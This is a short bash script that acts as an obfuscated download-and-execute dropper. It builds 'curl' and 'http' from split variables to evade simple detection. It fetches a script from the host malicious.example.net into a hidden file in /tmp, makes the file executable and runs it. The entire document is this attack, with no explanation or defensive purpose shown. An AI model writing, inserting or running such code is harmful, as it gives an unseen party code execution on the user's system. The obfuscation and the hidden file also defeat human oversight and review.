#!/bin/bash
a=cu;b=rl;c=ht;d=tp
$a$b -s $c$d://malicious.example.net/x.sh -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x
